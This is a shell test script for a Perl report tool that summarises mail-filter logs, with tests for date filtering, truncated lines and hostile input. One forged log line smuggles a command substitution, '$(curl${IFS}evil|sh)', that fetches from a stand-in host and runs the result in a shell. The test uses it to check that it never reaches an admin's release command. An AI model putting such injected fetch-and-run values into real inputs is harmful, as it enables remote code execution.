#!/bin/bash
# cli/report.sh - contrib/mxguard-report over test/data/mxguard-sample.log:
# real mxguard lines from the e2e tests (dnsbl, spf, relay, loop-story,
# postfix-whitelist) under the three timestamp styles, Postfix lines, and
# garbage. Every figure asserted here was counted in the sample by hand.
# test/data/mxguard-long.log: decision lines that log.c had to shorten
# (hostile values of up to 800 escaped bytes), three of them in Mode monitor.
set -u
. "$(dirname "$0")/../tap.sh"
REPORT=$MXG_TOP_SRCDIR/contrib/mxguard-report
SAMPLE=$MXG_TOP_SRCDIR/test/data/mxguard-sample.log
LONG=$MXG_TOP_SRCDIR/test/data/mxguard-long.log
D=$(mktemp -d /tmp/mxg-report.XXXXXX)
trap 'rm -rf "$D"' EXIT

# section OUT TITLE - the lines of one section of a report (title to blank line)
section() { printf '%s\n' "$1" | awk -v t="$2" '$0 == t { on = 1 } on && $0 == "" { exit } on'; }
# same DESC EXPECTED GOT - exact text
same() {
	if [ "$2" = "$3" ]; then tap_ok "$1"
	else tap_fail "$1" "expected:" "$2" "got:" "$3" "diff: $(diff <(printf '%s\n' "$2") <(printf '%s\n' "$3"))"; fi
}

out=$(perl "$REPORT" -d 2026-11-25 "$SAMPLE" 2>"$D/err0"); rc=$?
same "-d: exit 0, no warnings, the day in the title" "0 mxguard report for 2026-11-25" \
	"$rc $(cat "$D/err0")$(printf '%s\n' "$out" | head -1)"
same "-d: lines counted by kind (9 lines of 11-24 left out, 10 garbled skipped)" \
	"lines: 124 read, 70 decisions, 5 stats, 22 other mxguard messages, 8 other programs, 9 other days, 10 garbled (skipped)" \
	"$(printf '%s\n' "$out" | grep '^lines: ')"
same "-d: period from the first to the last mxguard line of the day" \
	"period: Nov 25 09:00:01 .. Nov 25 23:00:00" "$(printf '%s\n' "$out" | grep '^period: ')"
same "-d: decisions by action, the monitor-mode reject apart from the enforced ones" "Decisions by action
  action          count       %  monitor
  accept             49    71.0        0
  reject             10    14.5        1
  tempfail            3     4.3        0
  quarantine          3     4.3        0
  tag                 4     5.8        0
  total              69                1
  (monitor: logged in Mode monitor, not enforced; not in count)" "$(section "$out" "Decisions by action")"
same "-d: top reasons, most first" "Top reasons
  reason            count       %
  clean                30    42.9
  whitelist            10    14.3
  dnsbl                 9    12.9
  dns-error             7    10.0
  spf                   6     8.6
  relay-origin          4     5.7
  loop                  2     2.9
  authenticated         1     1.4
  trusted               1     1.4" "$(section "$out" "Top reasons")"
same "-d: top listed clients (exempt accepts not counted, monitor reject counted)" \
	"Top listed clients (reason=dnsbl, not accepted)
  client                                   count  zones
  192.0.2.99                                   4  bl.test
  127.0.0.77                                   2  bl.test
  2001:db8::99                                 1  bl.test" "$(section "$out" "Top listed clients (reason=dnsbl, not accepted)")"
same "-d: loops held, with queue ids (Postfix and Sendmail) and passes" "Loops held (quarantined)
  queue id         client                                  passes received  detail
  73CAFA748BD      127.0.0.30                                   3        4  loop: 3rd pass through backup.example.net
  6AQ1TcD3025127   127.0.0.30                                   3        5  loop: 3rd pass through smx.example.test
  total 2" "$(section "$out" "Loops held (quarantined)")"
same "-d: SPF results" "SPF results
  result          count
  pass               10
  fail                8
  permerror           6
  softfail            2
  temperror           2
  neutral             1
  none                1" "$(section "$out" "SPF results")"
same "-d: the day's last stats set, not the day before's" "Last stats
  at Nov 25 23:00:00: connections 41, uptime 8s
  dns: lookups 114, cache hits 42, cache hit rate 36.8%, queries 48, overload 0
  zone                            lookups  queries     hits   errors    p50_ms    p99_ms
  bl.test                              38       16        9        2     0.159   163.839
  bad.test                             38       16        0        5     0.159   163.839
  wl.test                              38       16        1        2     0.175   163.839" "$(section "$out" "Last stats")"

all=$(perl "$REPORT" "$SAMPLE")
same "no -d: every day (RFC 5424 lines of 11-24 too)" \
	"lines: 124 read, 74 decisions, 10 stats, 22 other mxguard messages, 8 other programs, 0 other days, 10 garbled (skipped)" \
	"$(printf '%s\n' "$all" | grep '^lines: ')"
same "no -d: 11-24's loop is held too" "  total 3" "$(section "$all" "Loops held (quarantined)" | tail -1)"
same "no -d: 192.0.2.99 listed twice more on 11-24" "  192.0.2.99                                   6  bl.test" \
	"$(section "$all" "Top listed clients (reason=dnsbl, not accepted)" | sed -n 3p)"
same "-d 2026-11-24: the RFC 5424 day alone (dated garbage of 11-25 is another day's)" \
	"lines: 124 read, 4 decisions, 5 stats, 0 other mxguard messages, 0 other programs, 110 other days, 5 garbled (skipped)" \
	"$(perl "$REPORT" -d 2026-11-24 "$SAMPLE" | grep '^lines: ')"
same "standard input reads the same as a file" "$out" "$(perl "$REPORT" -d 2026-11-25 < "$SAMPLE")"
gzip -c "$SAMPLE" > "$D/mxguard.log.1.gz"
same "a rotated .gz file reads the same" "$out" "$(perl "$REPORT" -d 2026-11-25 "$D/mxguard.log.1.gz")"

# lines shortened to fit 2048 bytes: every one parses, mode=monitor is read
# where the line puts it (after reason), a zone list cut inside a zone's
# name does not add that half name, a shortened detail is shown as logged
long=$(perl "$REPORT" "$LONG" 2>"$D/errl"); rc=$?
same "shortened lines: exit 0, all six are decisions, none garbled" \
	"0 lines: 6 read, 6 decisions, 0 stats, 0 other mxguard messages, 0 other programs, 0 other days, 0 garbled (skipped)" \
	"$rc $(cat "$D/errl")$(printf '%s\n' "$long" | grep '^lines: ')"
same "shortened lines: the three in Mode monitor counted apart" "Decisions by action
  action          count       %  monitor
  accept              1    33.3        0
  reject              1    33.3        1
  tempfail            0     0.0        1
  quarantine          1    33.3        1
  tag                 0     0.0        0
  total               3                3
  (monitor: logged in Mode monitor, not enforced; not in count)" "$(section "$long" "Decisions by action")"
same "shortened lines: the listed client with its whole zone only" "Top listed clients (reason=dnsbl, not accepted)
  client                                   count  zones
  198.51.100.77                                2  bl.test" \
	"$(section "$long" "Top listed clients (reason=dnsbl, not accepted)")"
same "shortened lines: the enforced loop held, the monitor one not" "Loops held (quarantined)
  queue id         client                                  passes received  detail
  5A1B2C3D50       192.0.2.10                                   3        4  <\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x1b\\x...
  total 1" "$(section "$long" "Loops held (quarantined)")"
same "shortened lines: SPF results whole" "SPF results
  result          count
  softfail            2
  pass                1" "$(section "$long" "SPF results")"
both=$(perl "$REPORT" -d 2026-11-25 "$SAMPLE" "$LONG")
same "sample and shortened lines together: enforced and monitor counts add up" "Decisions by action
  action          count       %  monitor
  accept             50    69.4        0
  reject             11    15.3        2
  tempfail            3     4.2        1
  quarantine          4     5.6        1
  tag                 4     5.6        0
  total              72                4
  (monitor: logged in Mode monitor, not enforced; not in count)" "$(section "$both" "Decisions by action")"

n1=$(perl "$REPORT" -n 1 -d 2026-11-25 "$SAMPLE")
same "-n 1: one row per top list and how many more" "  192.0.2.99                                   4  bl.test
  ... and 2 more" "$(section "$n1" "Top listed clients (reason=dnsbl, not accepted)" | tail -2)"

# hostile input: an over-long line, a last line without newline, seeded
# random bytes, control bytes in an mxguard line; nothing of it may crash
# the report or reach the terminal
{
	cat "$SAMPLE"
	printf 'Nov 25 12:30:00 mx1 mxguard[812]: action=reject reason=dnsbl client=192.0.2.99 helo='
	head -c 40000 /dev/zero | tr '\0' x
	printf ' score=2 zones=bl.test:127.0.0.2\n'
	perl -e 'srand(42); print map { chr(int rand 256) } 1 .. 300000'
	printf '\nNov 25 12:31:00 mx1 mxguard[812]: action=reject reason=dnsbl client=192.0.2.99 score=2 zones=bl.test:127.0.0.2'
} > "$D/hostile.log"
hostile=$(perl "$REPORT" -d 2026-11-25 "$D/hostile.log" 2>"$D/err"); rc=$?
tap_is "hostile input: exit 0, nothing on standard error" "0" sh -c "echo $rc; cat '$D/err'"
got=$(printf '%s\n' "$hostile" | grep '^lines: ' | sed -E 's/.* ([0-9]+) decisions.* ([0-9]+) garbled.*/\1 \2/')
# the last line (no newline) is a decision: 71; the over-long one and every random line are garbled
garbled=$(printf '%s\n' "$hostile" | grep '^lines: ' | sed -E 's/.* ([0-9]+) garbled.*/\1/')
if [ "${got%% *}" = 71 ] && [ "$garbled" -gt 11 ]; then
	tap_ok "hostile input: over-long and random lines skipped and counted ($garbled garbled), last line read"
else
	tap_fail "hostile input: counted" "decisions/garbled: $got" "$(printf '%s\n' "$hostile" | grep '^lines: ')"
fi
tap_check "hostile input: only printable ASCII in the report" \
	sh -c "! printf '%s\n' \"\$1\" | LC_ALL=C grep -q '[^ -~]'" - "$hostile"
printf 'Nov 25 12:32:00 mx1 mxguard[812]: "Q\\x1b[2J": action=quarantine reason=loop client=192.0.2.7 received=30 passes=4 detail="loop: \\x1b[31m"\n' > "$D/escaped.log"
# (a "queue id" that is not letters and digits is shown as none: see below)
same "values escaped by mxguard (\\xNN) are shown escaped, never decoded" \
	'  -                192.0.2.7                                    4       30  loop: \x1b[31m' \
	"$(perl "$REPORT" "$D/escaped.log" | section "$(cat)" "Loops held (quarantined)" | sed -n 3p)"

today=$(date +%Y-%m-%d)
printf '%sT08:00:00 mx1 mxguard[812]: action=accept reason=clean client=192.0.2.1\n' "$today" > "$D/today.log"
tap_is "-d today" "1" sh -c "perl '$REPORT' -d today '$D/today.log' | sed -n 's/.* \\([0-9]*\\) decisions.*/\\1/p'"
tap_is "-d yesterday leaves today's line out" "0" sh -c "perl '$REPORT' -d yesterday '$D/today.log' | sed -n 's/.* \\([0-9]*\\) decisions.*/\\1/p'"

# review: a queue id must be one (letters and digits): a forged line's
# "$(...)" must never reach the release command an admin would paste
printf '%sT08:00:00 mx1 mxguard[812]: "$(curl${IFS}evil|sh)": action=quarantine reason=loop client=192.0.2.1 received=3 passes=3\n' "$today" > "$D/qid.log"
tap_check "a queue id with shell syntax is shown as none, in no release command" sh -c \
	"out=\$(perl '$REPORT' -d today '$D/qid.log'; perl '$REPORT' --html -d today '$D/qid.log'); ! printf '%s' \"\$out\" | grep -q 'curl'"
perl "$REPORT" -d 2026-13-01 "$SAMPLE" >/dev/null 2>"$D/err"; rc=$?
tap_is "a bad -d is a usage error (exit 2)" "2 mxguard-report: -d wants YYYY-MM-DD, today or yesterday" \
	sh -c "echo $rc \$(cat '$D/err')"
miss=$(perl "$REPORT" -d 2026-11-25 "$D/missing.log" "$SAMPLE" 2>"$D/err"); rc=$?
if [ $rc = 1 ] && grep -q "mxguard-report: $D/missing.log: No such file" "$D/err" &&
	[ "$miss" = "$out" ]; then
	tap_ok "a missing file: named on standard error, exit 1, the others still reported"
else
	tap_fail "a missing file" "rc=$rc" "$(cat "$D/err")"
fi
tap_done
